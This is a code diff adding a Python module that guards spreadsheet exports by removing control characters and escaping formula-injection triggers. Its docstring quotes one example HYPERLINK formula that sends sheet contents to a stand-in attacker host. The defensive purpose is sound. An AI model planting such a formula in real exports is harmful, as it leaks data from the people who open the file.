@@ -1,0 +1,52 @@
+"""One neutraliser for every cell written to a spreadsheet (CSV or XLSX) we hand out.
+
+Two dangers, one function, in this order:
+
+1. Control characters. XLSX cannot hold C0 control characters other than tab, newline and
+   carriage return (openpyxl raises ``IllegalCharacterError``, and a whole export fails for
+   one bad name); they are removed.
+2. Formula injection. A cell whose text starts with ``= + - @`` (or a tab or carriage return
+   before one, or their full-width forms) is run as a formula by Excel and LibreOffice:
+   ``=HYPERLINK("http://evil.example/?"&A2,"Click")`` leaks the sheet. Such text gets a
+   leading apostrophe, which spreadsheet programs show as text (OWASP "CSV Injection").
+
+Cleaning comes first on purpose: ``"\\x01=HYPERLINK(...)"`` must not turn into a formula
+once the control character is gone. Every export calls :func:`neutralise_cell` (or
+:func:`neutralise_row`) last, on the value as it will be written.
+"""
+
+import re
+from collections.abc import Iterable
+from typing import Any, TypeVar
+
+from import_export import resources
+
+# openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE, plus DEL: what XML 1.0 refuses or shows as junk.
+CONTROL_CHARACTERS_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+FORMULA_TRIGGERS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
+LEADING_BLANKS = " \t\r\n\u00a0\u3000"
+
+T = TypeVar("T")
+
+
+def neutralise_cell(value: T) -> T | str:
+    """The value safe to write as one spreadsheet cell; numbers, dates and None unchanged."""
+    if not isinstance(value, str):
+        return value
+    cleaned = CONTROL_CHARACTERS_RE.sub("", value)
+    starts_with = cleaned.lstrip(LEADING_BLANKS)[:1]
+    if starts_with in FORMULA_TRIGGERS or cleaned[:1] in ("\t", "\r"):
+        return "'" + cleaned
+    return cleaned
+
+
+def neutralise_row(values: Iterable[Any]) -> list[Any]:
+    return [neutralise_cell(value) for value in values]
+
+
+class NeutralisedExportResource(resources.ModelResource):
+    """A django-import-export resource whose every exported cell is neutralised (CSV, XLSX,
+    and any other format the admin offers), after fields and dehydrate methods ran."""
+
+    def export_field(self, field, instance, **kwargs):
+        return neutralise_cell(super().export_field(field, instance, **kwargs))
